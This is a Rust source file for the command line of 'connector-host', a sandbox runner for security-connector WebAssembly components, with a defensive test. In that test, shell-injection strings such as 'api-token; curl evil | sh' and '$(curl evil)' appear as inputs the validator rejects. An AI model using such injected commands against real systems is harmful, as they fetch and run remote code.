//! The `connector-host` command line.

use std::io::IsTerminal;
use std::path::{Path, PathBuf};
use std::sync::Arc;
use std::time::Duration;

use clap::{Args, Parser, Subcommand};
use tracing_subscriber::EnvFilter;

use crate::engine::wit::{ConnectorSpec, SettingSpec};
use crate::engine::{Runtime, default_cache_dir};
use crate::error::Failure;
use crate::output::{Format, Models};
use crate::sandbox::Stats;
use crate::sandbox::http::SandboxHttp;
use crate::sandbox::limits::Limits;
use crate::secrets::{Grants, TrustStore, is_env_name};
use crate::settings::{self, Config, HOST_SETTINGS, resolve};
use crate::sync::{self, Network, Output, SyncOptions, connector_failure, sandbox_http};
use crate::text::{MAX_MESSAGE_CHARS, printable};

#[derive(Debug, Parser)]
#[command(
    name = "connector-host",
    version,
    about = "Run a security-connector WebAssembly component in a sandbox and write its findings as NDJSON",
    after_help = "Exit codes: 0 success, 2 usage or configuration, 3 authentication or permission (401/403), \
                  4 upstream or network failure after retries, 5 the component misbehaved."
)]
pub struct Cli {
    #[command(subcommand)]
    pub command: Command,
    /// More logging on stderr (-v info, -vv debug); RUST_LOG overrides.
    #[arg(short, long, action = clap::ArgAction::Count, global = true)]
    pub verbose: u8,
    /// Only errors on stderr.
    #[arg(short, long, global = true)]
    pub quiet: bool,
}

#[derive(Debug, Subcommand)]
pub enum Command {
    /// Pull every resource and finding and write them as NDJSON, a summary line last.
    #[command(after_help = "Examples:\n  \
        connector-host sync socket_connector.wasm -s org-slug=acme --out acme.ndjson --state acme.state\n  \
        connector-host sync socket_connector.wasm --config acme.toml --secret api-token=env:SOCKET_SECURITY_API_KEY\n  \
        connector-host sync socket_connector.wasm -s org-slug=demo-org -s api-token=demo --fixtures tests/fixtures/demo")]
    Sync(SyncArgs),
    /// Validate the credentials cheaply and report the remaining quota.
    #[command(
        after_help = "Example:\n  connector-host check socket_connector.wasm -s org-slug=acme --secret api-token=file:/run/secrets/socket"
    )]
    Check(CheckArgs),
    /// Print the connector's settings (a table, or JSON with --json).
    #[command(after_help = "Example:\n  connector-host describe socket_connector.wasm --json")]
    Describe(DescribeArgs),
    /// Let this exact component's own suggested environment variables supply its secrets
    /// (recorded with its SHA-256; any other build of it is not trusted).
    #[command(
        after_help = "Example:\n  connector-host trust socket_connector.wasm\n  \
        export SOCKET_SECURITY_API_KEY=...\n  \
        connector-host sync socket_connector.wasm -s org-slug=acme"
    )]
    Trust(TrustArgs),
}

#[derive(Debug, Args)]
pub struct ComponentArgs {
    /// The connector component (.wasm).
    pub component: PathBuf,
    /// Where precompiled components are cached (default: $XDG_CACHE_HOME/connector-host).
    #[arg(long, value_name = "DIR")]
    pub cache_dir: Option<PathBuf>,
    /// Compile the component every time instead of using the cache.
    #[arg(long)]
    pub no_cache: bool,
}

#[derive(Debug, Args)]
pub struct SettingsArgs {
    /// TOML file with a [settings] table and a [secrets] table of sources.
    #[arg(long, value_name = "FILE")]
    pub config: Option<PathBuf>,
    /// Set or override one setting (repeatable): -s org-slug=acme.
    #[arg(short = 's', long = "set", value_name = "KEY=VALUE")]
    pub set: Vec<String>,
    /// Where a secret setting's value comes from (repeatable): --secret api-token=env:VAR or
    /// --secret api-token=file:PATH. The host reads secrets from nowhere else.
    #[arg(long = "secret", value_name = "NAME=SOURCE")]
    pub secret: Vec<String>,
    /// Replay recorded responses from this cassette directory; anything unrecorded is refused.
    #[arg(long, value_name = "DIR", conflicts_with = "record")]
    pub fixtures: Option<PathBuf>,
    /// Record every response into this cassette directory (secrets stripped).
    #[arg(long, value_name = "DIR")]
    pub record: Option<PathBuf>,
}

#[derive(Debug, Args)]
pub struct SyncArgs {
    #[command(flatten)]
    pub component: ComponentArgs,
    #[command(flatten)]
    pub settings: SettingsArgs,
    /// Output file, or - for stdout.
    #[arg(long, value_name = "FILE|-", default_value = "-")]
    pub out: String,
    /// State file: high-water mark for incremental sync and the checkpoint to resume from.
    #[arg(long, value_name = "FILE")]
    pub state: Option<PathBuf>,
    /// Record kinds to write.
    #[arg(long, value_name = "LIST", default_value = "resources,issues,findings")]
    pub models: String,
    /// Record format: `ndjson` (resource / issue / finding lines) or `ocsf` (OCSF 1.x finding
    /// events: 2002 when the alert has a CVE, GHSA or CWE, else 2007).
    #[arg(long, value_name = "FORMAT", default_value = "ndjson")]
    pub format: String,
    /// Ignore the high-water mark and any checkpoint: a full sync.
    #[arg(long)]
    pub full: bool,
    /// Seconds subtracted from the high-water mark on incremental runs.
    #[arg(long, value_name = "SECS", default_value_t = 3600)]
    pub overlap_secs: u64,
}

#[derive(Debug, Args)]
pub struct CheckArgs {
    #[command(flatten)]
    pub component: ComponentArgs,
    #[command(flatten)]
    pub settings: SettingsArgs,
}

/// The component's limits, for subcommands that only ask it to describe itself.
#[derive(Debug, Args)]
pub struct LimitArgs {
    /// TOML file with a [settings] table; only the limits apply here.
    #[arg(long, value_name = "FILE")]
    pub config: Option<PathBuf>,
    /// Set a limit (repeatable): -s memory-limit-mb=64, -s cpu-limit-secs=5, -s call-timeout-secs=10.
    #[arg(short = 's', long = "set", value_name = "KEY=VALUE")]
    pub set: Vec<String>,
}

#[derive(Debug, Args)]
pub struct DescribeArgs {
    #[command(flatten)]
    pub component: ComponentArgs,
    #[command(flatten)]
    pub limits: LimitArgs,
    /// JSON instead of a table.
    #[arg(long)]
    pub json: bool,
}

#[derive(Debug, Args)]
pub struct TrustArgs {
    #[command(flatten)]
    pub component: ComponentArgs,
    #[command(flatten)]
    pub limits: LimitArgs,
}

/// The `connector-host` program: parse arguments, set up logging, run, exit with the code.
pub fn main() -> ! {
    let cli = Cli::parse();
    let default_level = match (cli.quiet, cli.verbose) {
        (true, _) => "error",
        (false, 0) => "warn",
        (false, 1) => "info",
        (false, _) => "debug",
    };
    let filter = EnvFilter::try_from_default_env()
        .unwrap_or_else(|_| EnvFilter::new(format!("connector_host={default_level},warn")));
    // Colour only for a terminal: a log file or pipe gets plain lines.
    tracing_subscriber::fmt()
        .with_env_filter(filter)
        .with_writer(std::io::stderr)
        .with_ansi(std::io::IsTerminal::is_terminal(&std::io::stderr()))
        .with_target(false)
        .init();
    let code = match tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()
    {
        Ok(rt) => rt.block_on(run(cli)),
        Err(e) => {
            eprintln!("error: cannot start the async runtime: {e}");
            1
        }
    };
    std::process::exit(code);
}

/// Runs a parsed command; returns the process exit code.
pub async fn run(cli: Cli) -> i32 {
    let result = match cli.command {
        Command::Sync(a) => sync_cmd(a, cli.quiet).await,
        Command::Check(a) => check_cmd(a).await,
        Command::Describe(a) => describe_cmd(a).await,
        Command::Trust(a) => trust_cmd(a).await,
    };
    match result {
        Ok(code) => code,
        Err(f) => {
            eprintln!("error: {f}");
            f.exit_code()
        }
    }
}

async fn sync_cmd(a: SyncArgs, quiet: bool) -> Result<i32, Failure> {
    let runtime = load(&a.component)?;
    let (spec, resolved) = resolved(&runtime, &a.settings).await?;
    let models = Models::parse(&a.models).map_err(Failure::Config)?;
    let opts = SyncOptions {
        models,
        format: Format::parse(&a.format).map_err(Failure::Config)?,
        output: if a.out == "-" {
            Output::Stdout
        } else {
            Output::File(PathBuf::from(&a.out))
        },
        state: a.state,
        full: a.full,
        overlap: Duration::from_secs(a.overlap_secs),
        network: network(&a.settings),
        progress: std::io::stderr().is_terminal() && !quiet,
    };
    let report = sync::run(&runtime, &spec, &resolved, &opts).await;
    let s = &report.summary;
    tracing::info!(
        "{} sync {}: {} resources, {} issues, {} findings from {} alerts; {} requests, {} retries, {:.2} s",
        s.mode,
        if s.complete { "complete" } else { "INCOMPLETE" },
        s.counts.resources,
        s.counts.issues,
        s.counts.findings,
        s.counts.vendor_records,
        s.requests,
        s.retries,
        s.elapsed_seconds
    );
    match report.failure {
        None => Ok(0),
        Some(f) => Err(f),
    }
}

async fn check_cmd(a: CheckArgs) -> Result<i32, Failure> {
    let runtime = load(&a.component)?;
    let (_, resolved) = resolved(&runtime, &a.settings).await?;
    let hooks = sandbox_http(
        &resolved.host,
        resolved.token.as_deref(),
        &network(&a.settings),
        Arc::new(Stats::default()),
    )?;
    let mut session = runtime.instantiate(hooks, resolved.host.limits).await?;
    let redact = |f: Failure| f.map_message(|m| resolved.secrets.redact(m));
    session
        .configure(&resolved.connector)
        .await?
        .map_err(|e| redact(connector_failure(e, &session)))?;
    let report = session
        .check()
        .await?
        .map_err(|e| redact(connector_failure(e, &session)))?;
    for line in report.messages.iter().take(100) {
        println!(
            "{}",
            printable(&resolved.secrets.redact(line), MAX_MESSAGE_CHARS)
        );
    }
    Ok(0)
}

async fn describe_cmd(a: DescribeArgs) -> Result<i32, Failure> {
    let runtime = load(&a.component)?;
    let spec = describe(&runtime, a.limits.read()?).await?;
    if a.json {
        println!(
            "{}",
            serde_json::to_string_pretty(&spec_json(&spec)).expect("spec serializes")
        );
    } else {
        print!("{}", spec_table(&spec, std::io::stdout().is_terminal()));
    }
    Ok(0)
}

fn load(a: &ComponentArgs) -> Result<Runtime, Failure> {
    let cache = if a.no_cache {
        None
    } else {
        a.cache_dir.clone().or_else(default_cache_dir)
    };
    let runtime = Runtime::load(&a.component, cache.as_deref())?;
    tracing::debug!(
        "component loaded ({:?}) in {:.1} ms",
        runtime.load_path,
        runtime.load_time.as_secs_f64() * 1e3
    );
    Ok(runtime)
}

/// The connector's spec, from an instance that has no network, under the run's `limits`.
pub async fn describe(runtime: &Runtime, limits: Limits) -> Result<ConnectorSpec, Failure> {
    let spec = runtime
        .instantiate(SandboxHttp::offline(), limits)
        .await?
        .describe()
        .await?;
    printable_spec(spec)
}

/// Most settings a connector may declare.
const MAX_SETTINGS: usize = 256;

/// The spec with every string made printable and bounded: its names and descriptions reach the
/// terminal (`describe`, error messages) and the output (`vendor`).
fn printable_spec(spec: ConnectorSpec) -> Result<ConnectorSpec, Failure> {
    if spec.settings.len() > MAX_SETTINGS {
        return Err(Failure::Guest(format!(
            "contract violation: `describe` declared {} settings; the limit is {MAX_SETTINGS}",
            spec.settings.len()
        )));
    }
    // Setting names go into the lines an operator is told to type (`-s`, `--secret`): plain
    // words only. Suggested variables that are not variable names are dropped.
    if let Some(bad) = spec.settings.iter().find(|s| !is_setting_name(&s.name)) {
        return Err(Failure::Guest(format!(
            "contract violation: `describe` declared a setting named {:?}; a name is 1 to 64 \
             letters, digits, `-`, `_` or `.`",
            printable(&bad.name, 80)
        )));
    }
    let p = |s: String| printable(&s, MAX_MESSAGE_CHARS);
    Ok(ConnectorSpec {
        name: p(spec.name),
        version: p(spec.version),
        vendor: p(spec.vendor),
        description: p(spec.description),
        base_url_setting: spec.base_url_setting.map(p),
        settings: spec
            .settings
            .into_iter()
            .map(|s| SettingSpec {
                name: p(s.name),
                description: p(s.description),
                default_value: s.default_value.map(p),
                env_vars: s
                    .env_vars
                    .into_iter()
                    .filter(|v| v.len() <= 128 && is_env_name(v))
                    .take(16)
                    .collect(),
                value_type: p(s.value_type),
                ..s
            })
            .collect(),
    })
}

fn is_setting_name(name: &str) -> bool {
    (1..=64).contains(&name.len())
        && name
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_.".contains(&b))
}

/// The config file (if any) with the command line's `-s` and `--secret` applied over it.
fn config(path: Option<&Path>, set: &[String], secrets: &[String]) -> Result<Config, Failure> {
    let mut config = match path {
        Some(p) => Config::from_toml_file(p)?,
        None => Config::default(),
    };
    config.settings.apply_overrides(set)?;
    config.grants.apply_args(secrets)?;
    Ok(config)
}

/// The connector's spec and the run's settings: secrets from the operator's grants, plus the
/// component's own suggestions when this exact component was trusted.
async fn resolved(
    runtime: &Runtime,
    a: &SettingsArgs,
) -> Result<(ConnectorSpec, settings::Resolved), Failure> {
    let config = config(a.config.as_deref(), &a.set, &a.secret)?;
    let spec = describe(runtime, settings::limits(&config.settings)?).await?;
    let mut grants: Grants = config.grants;
    if let Some(path) = TrustStore::default_path()
        && let Some(trusted) = TrustStore::open(&path)?.suggestions(&runtime.sha256)
    {
        grants.add_trusted(trusted);
    }
    let resolved = resolve(&config.settings, &grants, &spec, |name| {
        std::env::var(name).ok()
    })?;
    Ok((spec, resolved))
}

async fn trust_cmd(a: TrustArgs) -> Result<i32, Failure> {
    let runtime = load(&a.component)?;
    let spec = describe(&runtime, a.limits.read()?).await?;
    let path = TrustStore::default_path().ok_or_else(|| {
        Failure::Config("no configuration directory: set XDG_CONFIG_HOME or HOME".into())
    })?;
    let mut store = TrustStore::open(&path)?;
    let granted = store.trust(&runtime.sha256, &spec).clone();
    store.save(&path)?;
    println!(
        "trusted {} {} (sha256 {}) in {}",
        spec.name,
        spec.version,
        runtime.sha256,
        path.display()
    );
    for (name, vars) in &granted {
        println!(
            "  secret `{name}` from the first set of: {}",
            vars.join(", ")
        );
    }
    Ok(0)
}

impl LimitArgs {
    fn read(&self) -> Result<Limits, Failure> {
        settings::limits(&config(self.config.as_deref(), &self.set, &[])?.settings)
    }
}

fn network(a: &SettingsArgs) -> Network {
    match (&a.fixtures, &a.record) {
        (Some(dir), _) => Network::Replay(dir.clone()),
        (None, Some(dir)) => Network::Record(dir.clone()),
        (None, None) => Network::Live,
    }
}

fn spec_json(spec: &ConnectorSpec) -> serde_json::Value {
    serde_json::json!({
        "name": spec.name,
        "version": spec.version,
        "vendor": spec.vendor,
        "description": spec.description,
        "base_url_setting": spec.base_url_setting,
        "settings": spec.settings.iter().map(|s| serde_json::json!({
            "name": s.name,
            "description": s.description,
            "required": s.required,
            "default": s.default_value,
            "secret": s.secret,
            "env": s.env_vars,
            "type": s.value_type,
        })).collect::<Vec<_>>(),
        "host_settings": HOST_SETTINGS.iter().map(|(n, d)| serde_json::json!({"name": n, "description": d})).collect::<Vec<_>>(),
    })
}

fn spec_table(spec: &ConnectorSpec, bold: bool) -> String {
    let b = |s: &str| {
        if bold {
            format!("\x1b[1m{s}\x1b[0m")
        } else {
            s.to_string()
        }
    };
    let mut out = format!(
        "{} {} ({})\n{}\n\n",
        b(&spec.name),
        spec.version,
        spec.vendor,
        spec.description
    );
    let rows: Vec<[String; 6]> = spec
        .settings
        .iter()
        .map(|s| {
            [
                s.name.clone(),
                if s.required {
                    "yes".into()
                } else {
                    "no".into()
                },
                s.default_value.clone().unwrap_or_default(),
                if s.secret { "yes".into() } else { "no".into() },
                if s.secret {
                    s.env_vars.join(", ")
                } else {
                    String::new()
                },
                s.description.clone(),
            ]
        })
        .collect();
    let header = [
        "SETTING",
        "REQUIRED",
        "DEFAULT",
        "SECRET",
        "SUGGESTED ENV (grant with --secret)",
        "DESCRIPTION",
    ]
    .map(String::from);
    let mut widths = header.clone().map(|h| h.len());
    for r in &rows {
        for (w, c) in widths.iter_mut().zip(r) {
            *w = (*w).max(c.len());
        }
    }
    for (i, r) in std::iter::once(&header).chain(&rows).enumerate() {
        let line: Vec<String> = r
            .iter()
            .zip(widths)
            .map(|(c, w)| format!("{c:<w$}"))
            .collect();
        let line = line.join("  ").trim_end().to_string();
        out.push_str(&if i == 0 { b(&line) } else { line });
        out.push('\n');
    }
    out.push_str(&format!("\n{}\n", b("Host settings (sandbox)")));
    for (n, d) in HOST_SETTINGS {
        out.push_str(&format!("  {n:<28}{d}\n"));
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn spec(name: &str, env: &[&str]) -> ConnectorSpec {
        ConnectorSpec {
            name: "c\x1b[2J".into(),
            version: "0".into(),
            vendor: "V".into(),
            description: String::new(),
            base_url_setting: None,
            settings: vec![SettingSpec {
                name: name.into(),
                description: "d".into(),
                required: true,
                default_value: None,
                secret: true,
                env_vars: env.iter().map(|e| e.to_string()).collect(),
                value_type: "string".into(),
            }],
        }
    }

    #[test]
    fn a_spec_cannot_put_shell_text_into_the_lines_an_operator_is_told_to_type() {
        let err = printable_spec(spec("api-token; curl evil | sh", &[])).unwrap_err();
        assert!(err.message().contains("contract violation"), "{err}");
        let ok = printable_spec(spec(
            "api-token",
            &["GOOD_1", "$(curl evil)", "1BAD", "A B"],
        ))
        .unwrap();
        assert_eq!(ok.settings[0].env_vars, ["GOOD_1"]);
        assert_eq!(ok.name, "c\u{fffd}[2J");
    }
}
